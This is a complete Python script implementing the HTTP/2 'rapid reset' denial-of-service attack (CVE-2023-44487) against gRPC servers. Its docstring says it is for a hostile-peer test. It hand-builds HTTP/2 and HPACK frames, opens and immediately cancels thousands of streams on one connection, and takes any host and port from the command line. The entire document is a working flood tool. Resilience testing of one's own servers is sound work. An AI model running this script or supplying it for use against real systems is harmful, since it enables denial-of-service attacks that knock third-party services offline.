#!/usr/bin/env python3
"""An HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server, for
the hostile-peer test: one connection opens N streams (HEADERS for a gRPC
call) and resets each at once (RST_STREAM CANCEL), reading whatever the
server sends so that it never blocks on us.

    h2flood.py HOST PORT STREAMS [PATH]
"""
import socket
import struct
import sys
import threading


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK literal header field without indexing, new name (RFC 7541 6.2.2).
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def main():
    host, port, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    path = (sys.argv[4] if len(sys.argv) > 4 else "/faultlab.api.Ingest/Upload").encode()
    s = socket.create_connection((host, port))
    threading.Thread(target=lambda: [None for _ in iter(lambda: s.recv(65536), b"")], daemon=True).start()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    headers = b"".join(literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")])
    batch = []
    for i in range(streams):
        sid = 2 * i + 1
        batch.append(frame(1, 0x4, sid, headers) + frame(3, 0, sid, struct.pack(">I", 8)))
        if len(batch) == 500:
            s.sendall(b"".join(batch))
            batch = []
    if batch:
        s.sendall(b"".join(batch))
    s.sendall(frame(7, 0, 0, struct.pack(">II", 2 * streams - 1, 0)))  # GOAWAY
    s.close()


if __name__ == "__main__":
    main()
